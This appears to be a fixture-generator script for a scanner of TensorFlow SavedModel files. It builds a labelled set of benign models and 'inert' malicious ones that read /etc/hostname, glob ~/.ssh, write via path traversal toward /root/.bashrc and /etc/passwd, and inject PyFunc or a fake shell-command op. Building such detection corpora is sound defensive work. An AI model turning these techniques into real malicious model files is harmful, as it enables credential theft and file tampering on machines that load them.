"""Builds the SavedModel fixtures: real SavedModels written by TensorFlow (benign and inert
malicious ones), plus protobuf edits for variants TensorFlow will not write (custom ops, escaping
asset paths, malformed files).

Run with a venv that has `requirements.txt` installed:
    /work/venv-tf/bin/python gen_fixtures.py
Only `saved_model.pb` / `keras_metadata.pb` are kept (the scanner reads them file by file);
payloads are inert: they read /etc/hostname, write under /tmp/aisec-fixture, print.
"""

import os
import shutil
import sys
import tempfile

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
os.environ.setdefault("TF_USE_LEGACY_KERAS", "1")

import tensorflow as tf  # noqa: E402
from tensorflow.core.framework import attr_value_pb2, node_def_pb2  # noqa: E402
from tensorflow.core.protobuf import saved_model_pb2  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
ROWS = []


def keep(src_dir, rel, expected, cls, desc, files=("saved_model.pb",)):
    """Copies the protobufs of a SavedModel directory into `rel/`."""
    out = os.path.join(HERE, rel)
    os.makedirs(out, exist_ok=True)
    for f in files:
        shutil.copy(os.path.join(src_dir, f), os.path.join(out, f))
        ROWS.append((f"{rel}/{f}", expected, cls, desc))


def save(module, rel, expected, cls, desc, signatures=None, files=("saved_model.pb",)):
    with tempfile.TemporaryDirectory() as d:
        tf.saved_model.save(module, d, signatures=signatures)
        keep(d, rel, expected, cls, desc, files)


def edit(src_rel, rel, expected, cls, desc, fn):
    """Loads a kept saved_model.pb, lets `fn` change the proto, writes it to `rel/`."""
    sm = saved_model_pb2.SavedModel()
    with open(os.path.join(HERE, src_rel, "saved_model.pb"), "rb") as f:
        sm.ParseFromString(f.read())
    fn(sm)
    out = os.path.join(HERE, rel)
    os.makedirs(out, exist_ok=True)
    with open(os.path.join(out, "saved_model.pb"), "wb") as f:
        f.write(sm.SerializeToString())
    ROWS.append((f"{rel}/saved_model.pb", expected, cls, desc))


S1 = [tf.TensorSpec([], tf.float32)]
SS = [tf.TensorSpec([], tf.string)]


# ----- benign ------------------------------------------------------------------------------------

class MathModule(tf.Module):
    def __init__(self):
        self.w = tf.Variable([[1.0, 2.0], [3.0, 4.0]])
        self.b = tf.Variable([0.5, -0.5])

    @tf.function(input_signature=[tf.TensorSpec([None, 2], tf.float32)])
    def __call__(self, x):
        y = tf.nn.relu(tf.matmul(x, self.w) + self.b)
        tf.print("batch", tf.shape(x))  # PrintV2 to stderr: benign
        return tf.reduce_sum(y, axis=1)


def benign_math():
    m = MathModule()
    save(m, "benign/math_module", "benign", "tf-module", "tf.Module with variables, math and tf.print to stderr",
         signatures=m.__call__)


def benign_control_flow():
    class Loop(tf.Module):
        @tf.function(input_signature=S1)
        def f(self, x):
            i = tf.constant(0)
            while i < 3:
                x = x * 2.0
                i += 1
            if x > 10.0:
                x = x - 1.0
            return x

    m = Loop()
    save(m, "benign/control_flow", "benign", "tf-module", "While/If bodies in the function library", signatures=m.f)


def benign_vocab_asset():
    d = tempfile.mkdtemp()
    vocab = os.path.join(d, "vocab.txt")
    with open(vocab, "w") as f:
        f.write("[PAD]\nhello\nworld\n")

    class Lookup(tf.Module):
        def __init__(self):
            init = tf.lookup.TextFileInitializer(vocab, tf.string, tf.lookup.TextFileIndex.WHOLE_LINE,
                                                 tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER)
            self.table = tf.lookup.StaticHashTable(init, -1)

        @tf.function(input_signature=[tf.TensorSpec([None], tf.string)])
        def f(self, x):
            return self.table.lookup(x)

    m = Lookup()
    save(m, "benign/vocab_asset", "benign", "asset-table",
         "vocabulary table initialised from an asset file (InitializeTableFromTextFileV2)", signatures=m.f)
    shutil.rmtree(d)


def benign_tf_keras():
    import tf_keras as keras

    m = keras.Sequential([keras.layers.Input((4,)), keras.layers.Dense(3, activation="relu"),
                          keras.layers.Dropout(0.1), keras.layers.Dense(1)])
    with tempfile.TemporaryDirectory() as d:
        m.save(d, save_format="tf")
        keep(d, "benign/tf_keras_sequential", "benign", "keras-savedmodel",
             "tf-keras Sequential model saved as SavedModel, with keras_metadata.pb",
             files=("saved_model.pb", "keras_metadata.pb"))


def benign_keras3_export():
    import keras

    inp = keras.Input((4,))
    out = keras.layers.Dense(2)(keras.layers.Dense(3, activation="tanh")(inp))
    m = keras.Model(inp, out)
    with tempfile.TemporaryDirectory() as d:
        m.export(d)
        keep(d, "benign/keras3_export", "benign", "keras-savedmodel", "Keras 3 functional model exported with model.export")


def benign_tf1_saver():
    g = tf.Graph()
    with g.as_default():
        x = tf.compat.v1.placeholder(tf.float32, [None, 2], name="x")
        w = tf.compat.v1.get_variable("w", [2, 1])
        y = tf.matmul(x, w, name="y")
        with tf.compat.v1.Session(graph=g) as s:
            s.run(tf.compat.v1.global_variables_initializer())
            with tempfile.TemporaryDirectory() as d:
                p = os.path.join(d, "m")
                b = tf.compat.v1.saved_model.Builder(p)
                sig = tf.compat.v1.saved_model.predict_signature_def({"x": x}, {"y": y})
                b.add_meta_graph_and_variables(s, ["serve"], signature_def_map={"serving_default": sig})
                b.save()
                keep(p, "benign/tf1_builder", "benign", "tf1-savedmodel",
                     "TF1 graph saved with SavedModelBuilder (save/Const filename, sharded saver)")


def benign_dataset_cache():
    class Cache(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None], tf.float32)])
        def f(self, x):
            ds = tf.data.Dataset.from_tensor_slices(x).cache().map(lambda v: v * 2.0)
            return ds.reduce(0.0, lambda a, b: a + b)

    m = Cache()
    save(m, "benign/dataset_cache_memory", "benign", "tf-data", "tf.data pipeline cached in memory (CacheDataset with empty filename)",
         signatures=m.f)


# ----- malicious: TensorFlow writes these ---------------------------------------------------------

def mal_read_file():
    class R(tf.Module):
        @tf.function(input_signature=SS)
        def f(self, x):
            return tf.strings.join([x, tf.io.read_file("/etc/hostname")])

    m = R()
    save(m, "malicious/read_file_signature", "malicious", "file-read", "tf.io.read_file('/etc/hostname') in the serving signature",
         signatures=m.f)


def mal_write_file():
    class W(tf.Module):
        @tf.function(input_signature=SS)
        def f(self, x):
            tf.io.write_file("/tmp/aisec-fixture", x)
            return x

    m = W()
    save(m, "malicious/write_file", "malicious", "file-write", "tf.io.write_file('/tmp/aisec-fixture', input)", signatures=m.f)


def mal_matching_files():
    class M(tf.Module):
        @tf.function(input_signature=S1)
        def f(self, x):
            return tf.strings.reduce_join(tf.io.matching_files("/home/*/.ssh/*"))

    m = M()
    save(m, "malicious/matching_files", "malicious", "file-read", "tf.io.matching_files('/home/*/.ssh/*')", signatures=m.f)


def mal_print_file():
    class P(tf.Module):
        @tf.function(input_signature=SS)
        def f(self, x):
            tf.print(x, output_stream="file:///tmp/aisec-fixture")
            return x

    m = P()
    save(m, "malicious/print_to_file", "malicious", "file-write", "tf.print(output_stream='file:///tmp/aisec-fixture')",
         signatures=m.f)


def echo(x):
    return x


def mal_py_function():
    class Py(tf.Module):
        @tf.function(input_signature=S1)
        def f(self, x):
            return tf.py_function(echo, [x], tf.float32)

    m = Py()
    save(m, "malicious/py_function", "malicious", "python-callable", "tf.py_function (EagerPyFunc) in the signature",
         signatures=m.f)


def mal_numpy_function():
    class Np(tf.Module):
        @tf.function(input_signature=S1)
        def f(self, x):
            return tf.numpy_function(echo, [x], tf.float32)

    m = Np()
    save(m, "malicious/numpy_function", "malicious", "python-callable", "tf.numpy_function (PyFunc)", signatures=m.f)


def mal_datasets():
    def one(make, rel, desc):
        class D(tf.Module):
            @tf.function(input_signature=S1)
            def f(self, x):
                return make().reduce(tf.constant(""), lambda a, b: a + b)

        m = D()
        save(m, rel, "malicious", "file-read", desc, signatures=m.f)

    one(lambda: tf.data.TextLineDataset("/etc/hostname"), "malicious/dataset_text_line", "TextLineDataset('/etc/hostname')")
    one(lambda: tf.data.TFRecordDataset(["/etc/hostname"]), "malicious/dataset_tfrecord", "TFRecordDataset(['/etc/hostname'])")
    one(lambda: tf.data.FixedLengthRecordDataset("/etc/hostname", 1), "malicious/dataset_fixed_length",
        "FixedLengthRecordDataset('/etc/hostname')")
    one(lambda: tf.data.Dataset.list_files("/etc/host*", shuffle=False).map(tf.io.read_file),
        "malicious/dataset_list_files_map_read", "Dataset.list_files + map(tf.io.read_file): MatchingFiles and ReadFile in a map function")


def mal_dataset_cache_file():
    class C(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None], tf.float32)])
        def f(self, x):
            ds = tf.data.Dataset.from_tensor_slices(x).cache("/tmp/aisec-fixture-cache")
            return ds.reduce(0.0, lambda a, b: a + b)

    m = C()
    save(m, "malicious/dataset_cache_file", "malicious", "file-write", "Dataset.cache('/tmp/aisec-fixture-cache') writes files",
         signatures=m.f)


def mal_nested_function():
    @tf.function
    def inner(x):
        return tf.strings.length(tf.io.read_file("/etc/hostname")) + tf.cast(x, tf.int32)

    @tf.function
    def middle(x):
        return inner(x) * 2

    class N(tf.Module):
        @tf.function(input_signature=S1)
        def f(self, x):
            return middle(x)

    m = N()
    save(m, "malicious/nested_function_read", "malicious", "file-read",
         "ReadFile two tf.function calls deep, present only in the function library", signatures=m.f)


def mal_while_body():
    class Wb(tf.Module):
        @tf.function(input_signature=S1)
        def f(self, x):
            acc = tf.constant("")
            for _ in tf.range(2):
                acc = tf.io.read_file("/etc/hostname")
            return acc

    m = Wb()
    save(m, "malicious/while_body_read", "malicious", "file-read", "ReadFile inside a While loop body", signatures=m.f)


def mal_if_branch():
    class Ib(tf.Module):
        @tf.function(input_signature=S1)
        def f(self, x):
            if x > 0.0:
                tf.io.write_file("/tmp/aisec-fixture", "x")
            return x

    m = Ib()
    save(m, "malicious/if_branch_write", "malicious", "file-write", "WriteFile inside an If branch", signatures=m.f)


def mal_path_argument():
    # The constant path is captured by the concrete function and bound by the caller.
    path = tf.constant("/etc/hostname")

    class Cap(tf.Module):
        @tf.function(input_signature=S1)
        def f(self, x):
            return tf.io.read_file(path)

    m = Cap()
    save(m, "malicious/captured_path_read", "malicious", "file-read", "ReadFile of a captured constant tensor", signatures=m.f)


def mal_unsaved_function():
    # A tf.function exposed on the object, not in any signature: loaders call it from Python.
    class U(tf.Module):
        @tf.function(input_signature=S1)
        def serve(self, x):
            return x + 1.0

        @tf.function(input_signature=S1)
        def helper(self, x):
            tf.io.write_file("/tmp/aisec-fixture", "x")
            return x

    m = U()
    m.helper.get_concrete_function()
    save(m, "malicious/object_function_write", "malicious", "file-write", "WriteFile in a tf.function outside the signatures",
         signatures=m.serve)


def mal_raw_save():
    class Sv(tf.Module):
        @tf.function(input_signature=S1)
        def f(self, x):
            tf.raw_ops.Save(filename="/tmp/aisec-fixture/../aisec-fixture-save", tensor_names=["x"], data=[x])
            return x

    m = Sv()
    save(m, "malicious/raw_save_constant_path", "malicious", "checkpoint-outside-saver",
         "raw Save op writing a constant path with '..' in the signature", signatures=m.f)


def mal_restore_abs():
    class Rs(tf.Module):
        @tf.function(input_signature=S1)
        def f(self, x):
            v = tf.raw_ops.RestoreV2(prefix="/etc/aisec-fixture", tensor_names=["x"], shape_and_slices=[""],
                                     dtypes=[tf.float32])
            return x + v[0]

    m = Rs()
    save(m, "malicious/restore_absolute_path", "malicious", "checkpoint-outside-saver",
         "RestoreV2 from an absolute constant prefix in the signature", signatures=m.f)


def mal_remote_read():
    class G(tf.Module):
        @tf.function(input_signature=S1)
        def f(self, x):
            return tf.io.read_file("gs://aisec-fixture-bucket/payload")

    m = G()
    save(m, "malicious/remote_read", "malicious", "network", "ReadFile of a gs:// URL", signatures=m.f)


def mal_summary_writer():
    class Sw(tf.Module):
        @tf.function(input_signature=S1)
        def f(self, x):
            w = tf.raw_ops.SummaryWriter(shared_name="aisec", container="")
            tf.raw_ops.CreateSummaryFileWriter(writer=w, logdir="/tmp/aisec-fixture-logs", max_queue=1,
                                               flush_millis=10, filename_suffix=".x")
            return x

    m = Sw()
    save(m, "malicious/summary_writer", "malicious", "file-write", "CreateSummaryFileWriter to /tmp in the signature",
         signatures=m.f)


def benign_tf_keras_lambda_math():
    import tf_keras as keras

    m = keras.Sequential([keras.layers.Input((3,)), keras.layers.Lambda(lambda x: x * 2.0)])
    with tempfile.TemporaryDirectory() as d:
        m.save(d, save_format="tf")
        # Tensor math only (`x * 2.0`): the Keras analyser reports it low, as for .keras and .h5.
        keep(d, "benign/tf_keras_lambda_math", "benign", "keras-lambda-math",
             "tf-keras SavedModel whose keras_metadata.pb records a tensor-math Lambda (`__tuple__` code)",
             files=("keras_metadata.pb",))


# ----- malicious: hand edits of real files --------------------------------------------------------

def add_node_to_signature(sm, op, attrs=None, inputs=()):
    """Adds a node to the serving signature's innermost function (`__inference_f_*`)."""
    mg = sm.meta_graphs[0]
    fns = [f for f in mg.graph_def.library.function
           if f.signature.name.startswith("__inference_") and "signature_wrapper" not in f.signature.name
           and "traced_" not in f.signature.name]
    fn = fns[0]
    n = fn.node_def.add()
    n.name = "injected"
    n.op = op
    n.input.extend(inputs)
    for k, v in (attrs or {}).items():
        n.attr[k].CopyFrom(v)
    return n


def edits():
    base = "benign/math_module"
    edit(base, "malicious/custom_op", "malicious", "custom-op", "node with op `ExecShellCommand` (not in TF's registry)",
         lambda sm: add_node_to_signature(sm, "ExecShellCommand",
                                         {"cmd": attr_value_pb2.AttrValue(s=b"echo aisec-fixture")}))
    edit(base, "malicious/immutable_const", "malicious", "file-read", "ImmutableConst mapping /etc/hostname",
         lambda sm: add_node_to_signature(sm, "ImmutableConst", {
             "memory_region_name": attr_value_pb2.AttrValue(s=b"/etc/hostname"),
             "dtype": attr_value_pb2.AttrValue(type=1)}))
    edit(base, "malicious/debug_identity_grpc", "malicious", "network", "DebugIdentity streaming to grpc://",
         lambda sm: add_node_to_signature(sm, "DebugIdentity", {
             "debug_urls": attr_value_pb2.AttrValue(list=attr_value_pb2.AttrValue.ListValue(
                 s=[b"grpc://aisec-fixture.invalid:6064"]))}, inputs=["x"]))

    def main_graph_read(sm):
        mg = sm.meta_graphs[0]
        c = mg.graph_def.node.add()
        c.name = "hidden_path"
        c.op = "Const"
        c.attr["dtype"].type = 7
        c.attr["value"].tensor.dtype = 7
        c.attr["value"].tensor.string_val.append(b"/etc/hostname")
        r = mg.graph_def.node.add()
        r.name = "hidden_read"
        r.op = "ReadFile"
        r.input.append("hidden_path")
    edit(base, "malicious/main_graph_read", "malicious", "file-read", "ReadFile of a Const in the main graph (TF1 style)",
         main_graph_read)

    def asset_escape(sm):
        for a in sm.meta_graphs[0].asset_file_def:
            a.filename = "../../../../etc/passwd"
    edit("benign/vocab_asset", "malicious/asset_path_escape", "malicious", "asset-escape",
         "asset_file_def filename '../../../../etc/passwd' feeding a table initializer", asset_escape)

    def saver_hijack(sm):
        # The save function is also called from a serving signature with a constant path.
        mg = sm.meta_graphs[0]
        save_fn = [n for n in mg.graph_def.node if n.op == "StatefulPartitionedCall"
                   and n.attr["f"].func.name.startswith("__inference__traced_save")][0]
        c = mg.graph_def.node.add()
        c.name = "evil_prefix"
        c.op = "Const"
        c.attr["dtype"].type = 7
        c.attr["value"].tensor.dtype = 7
        c.attr["value"].tensor.string_val.append(b"/tmp/aisec-fixture/../../root/.bashrc")
        call = mg.graph_def.node.add()
        call.CopyFrom(save_fn)
        call.name = "evil_save"
        call.input[0] = "evil_prefix"
    edit(base, "malicious/saver_function_constant_path", "malicious", "checkpoint-outside-saver",
         "the standard traced_save function called a second time with a constant path outside the model", saver_hijack)

    edit(base, "malicious/pyfunc_injected", "malicious", "python-callable",
         "PyFunc injected into the serving function (token 'pyfunc_0')",
         lambda sm: add_node_to_signature(sm, "PyFunc", {"token": attr_value_pb2.AttrValue(s=b"pyfunc_0")}))


def frozen_graphs():
    """Bare GraphDefs (`frozen_graph.pb`), as TF1 freezing and `as_graph_def()` write them."""
    def write(rel, expected, cls, desc, fn, spec):
        gd = fn.get_concrete_function(*spec).graph.as_graph_def()
        out = os.path.join(HERE, rel)
        os.makedirs(out, exist_ok=True)
        with open(os.path.join(out, "frozen_graph.pb"), "wb") as f:
            f.write(gd.SerializeToString())
        ROWS.append((f"{rel}/frozen_graph.pb", expected, cls, desc))

    @tf.function
    def dense(x):
        w = tf.constant([[1.0], [2.0]])
        return tf.nn.sigmoid(tf.matmul(x, w) + 0.5)

    @tf.function
    def leak(x):
        return tf.strings.join([x, tf.io.read_file("/etc/hostname")])

    write("benign/frozen_graph", "benign", "graphdef", "frozen GraphDef of a small dense layer", dense,
          [tf.TensorSpec([None, 2], tf.float32)])
    write("malicious/frozen_graph_read", "malicious", "file-read", "frozen GraphDef with ReadFile('/etc/hostname')", leak,
          [tf.TensorSpec([], tf.string)])


def main():
    for d in ("benign", "malicious"):
        shutil.rmtree(os.path.join(HERE, d), ignore_errors=True)
    for fn in [benign_math, benign_control_flow, benign_vocab_asset, benign_tf_keras, benign_keras3_export,
               benign_tf1_saver, benign_dataset_cache, mal_read_file, mal_write_file, mal_matching_files,
               mal_print_file, mal_py_function, mal_numpy_function, mal_datasets, mal_dataset_cache_file,
               mal_nested_function, mal_while_body, mal_if_branch, mal_path_argument, mal_unsaved_function,
               mal_raw_save, mal_restore_abs, mal_remote_read, mal_summary_writer, benign_tf_keras_lambda_math, edits,
               frozen_graphs]:
        try:
            fn()
        except Exception as e:  # keep going; report what failed
            print(f"FAILED {fn.__name__}: {type(e).__name__}: {e}", file=sys.stderr)
    with open(os.path.join(HERE, "MANIFEST.tsv"), "w") as f:
        f.write("path\texpected\tclass\tdescription\n")
        for row in sorted(ROWS):
            f.write("\t".join(row) + "\n")


if __name__ == "__main__":
    main()
